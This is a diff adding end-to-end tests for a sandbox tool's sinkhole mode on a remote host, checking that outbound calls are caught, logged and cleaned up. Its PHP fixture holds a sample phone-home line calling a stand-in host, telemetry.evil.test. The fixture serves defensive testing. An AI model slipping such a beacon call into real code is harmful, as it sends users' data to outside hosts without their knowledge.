@@ -20,6 +20,8 @@ from tests.lab_fixture import LabSession
 from tests.netns import inside
 
 from .e2e_support import Cli, wait_removed
+from .inet_capture import InetCapture
+from .test_e2e_learn import one_shot_name
 
 pytestmark = [pytest.mark.vm, pytest.mark.root]
 
@@ -173,6 +175,104 @@ def test_a_sandbox_on_a_remote_host(
     assert any(json.loads(line)["dst"] == ALLOWED for line in kept), kept
 
 
+SINKHOLED = """<?php
+$h = @file_get_contents('http://telemetry.evil.test/collect?id=17');
+echo gethostbyname('telemetry.evil.test'), "\\n";
+"""
+
+
+def could_be_the_scripts(packet: str) -> bool:
+    """A packet (tcpdump -n line) in the fake internet that the sinkholed script could have
+    caused: its call (port 80) or a lookup forwarded upstream (DNS). Not every packet there: in
+    the shared lab, an earlier sandbox's SSH session ending after its network was removed sends
+    its FIN (a gateway to its guest's port 22) out by the default route, into the fake
+    internet (seen once, while this test ran)."""
+    return any(port in packet for port in (".80:", ".80 ", ".53:", ".53 "))
+
+
+def sinkholes_on(remote: RemoteHost) -> list[int]:
+    """The processes in the remote host's network namespace running a sandbox's sinkhole."""
+    found = []
+    for pid in _pids_in(remote.netns):
+        try:
+            argv = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
+        except OSError:
+            continue
+        if any(a.endswith(b"/sinkhole.py") for a in argv):
+            found.append(pid)
+    return found
+
+
+def test_sinkhole_mode_on_a_remote_host(
+    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli, tmp_path: Path
+) -> None:
+    """`up --sinkhole` on the remote host: the sinkhole runs there (stdlib python3, as nobody),
+    a name PHP resolves and calls over HTTP is sinkholed with its request and name in the logs,
+    nothing reaches the fake internet, and destroy leaves no process or directory there."""
+    client_of(remote, monkeypatch)
+    monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
+    cli.ok("up", "--name", "remsink", "--sinkhole")
+    state = json.loads((cli.sandbox_dir("remsink") / "state.json").read_text())
+    assert state["uri"] == remote.uri and not state.get("sinkhole_pid")
+    pid = state["remote_sinkhole_pid"]
+    assert sinkholes_on(remote) == [pid]
+    assert "Uid:\t65534" in Path(f"/proc/{pid}/status").read_text()  # gave up root there
+    records_dir = remote.private("/var/lib/libvirt") / "sandbox-records" / "remsink"
+    assert (records_dir / "sinkhole.py").is_file()
+    gateway = json.loads((cli.sandbox_dir("remsink") / "logs" / "network.json").read_text())
+    gateway = gateway["resolver"][0]
+
+    script = tmp_path / "phone_home.php"
+    script.write_text(SINKHOLED)
+    start = len(accept_log(cli.lab))
+    with InetCapture(cli.lab, tmp_path / "inet.pcap") as capture:
+        ran = cli.ok("run", "--name", "remsink", str(script))
+    assert ran.stdout.splitlines() == [gateway], ran.stdout + ran.stderr
+    assert capture.packets(could_be_the_scripts) == [], capture.packets()
+    assert accept_log(cli.lab)[start:] == []
+    rows = cli.records_when(
+        "remsink",
+        lambda rs: any(r["verdict"] == "sinkholed" and r.get("http") for r in rs),
+        "the sinkholed request",
+    )
+    [sunk] = [r for r in rows if r["verdict"] == "sinkholed" and r.get("http")]
+    assert sunk["http"] == "GET telemetry.evil.test /collect?id=17", sunk
+    assert (sunk["dns_name"], sunk["dst"], sunk["dport"]) == ("telemetry.evil.test", gateway, 80)
+    assert sunk["stack"][0]["line"] == 2, sunk
+
+    cli.ok("destroy", "--name", "remsink")
+    wait_removed("remsink", cli)
+    assert sinkholes_on(remote) == []
+    assert not records_dir.exists()
+    assert "sandbox_guard_" not in on_host(remote, "nft", "list", "tables")
+    # Its records stay with the client's logs, in the local sinkhole's format.
+    kept = (cli.sandbox_dir("remsink") / "logs" / "sinkhole.jsonl").read_text().splitlines()
+    assert any(json.loads(line)["http"] == sunk["http"] for line in kept), kept
+
+
+def test_a_one_shot_run_in_sinkhole_mode_on_a_remote_host(
+    monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli, tmp_path: Path
+) -> None:
+    """`run --rm --sinkhole` goes through the same `up` and `destroy`: the request is in the
+    logs kept after it, and nothing of it is left on the host."""
+    client_of(remote, monkeypatch)
+    monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
+    script = tmp_path / "phone_home.php"
+    script.write_text(SINKHOLED)
+    ran = cli.ok("run", "--rm", "--sinkhole", str(script))
+    name = one_shot_name(ran.stderr)
+    rows = cli.records_when(
+        name,
+        lambda rs: any(r["verdict"] == "sinkholed" and r.get("http") for r in rs),
+        "the sinkholed request",
+    )
+    sunk = [(r["dns_name"], r["http"]) for r in rows if r["verdict"] == "sinkholed"]
+    assert sunk == [("telemetry.evil.test", "GET telemetry.evil.test /collect?id=17")], rows
+    wait_removed(name, cli)
+    assert sinkholes_on(remote) == []
+    assert not (remote.private("/var/lib/libvirt") / "sandbox-records" / name).exists()
+
+
 def test_placement_over_two_hosts_and_one_that_is_down(
     monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli
 ) -> None:
@@ -203,14 +303,16 @@ def test_placement_over_two_hosts_and_one_that_is_down(
 def test_a_failed_up_stops_the_records_on_the_remote_host(
     monkeypatch: pytest.MonkeyPatch, remote: RemoteHost, cli: Cli
 ) -> None:
-    """An `up` that fails after the host-side records started (here: the guest cannot get its
-    lease within a boot timeout of 2 s) rolls them back on the host too."""
+    """An `up` that fails after the host-side records and the sinkhole started (here: the
+    guest cannot get its lease within a boot timeout of 2 s) rolls them back on the host too."""
     client_of(remote, monkeypatch)
     monkeypatch.setenv("SANDBOX_CONNECT", remote.uri)
     cli.config.write_text("boot_timeout: 2\n")
-    failed = cli.run("up", "--name", "remfail", "--pcap")
+    failed = cli.run("up", "--name", "remfail", "--pcap", "--sinkhole")
     assert failed.returncode != 0
     assert "recording the guest's flows" in failed.stderr, failed.stderr  # they had started
+    assert "starting the sinkhole" in failed.stderr, failed.stderr
     assert tcpdumps_on(remote) == []
+    assert sinkholes_on(remote) == []
     assert not (remote.private("/var/lib/libvirt") / "sandbox-records" / "remfail").exists()
     assert "sandbox-remfail" not in virsh(remote, "list", "--all", "--name")
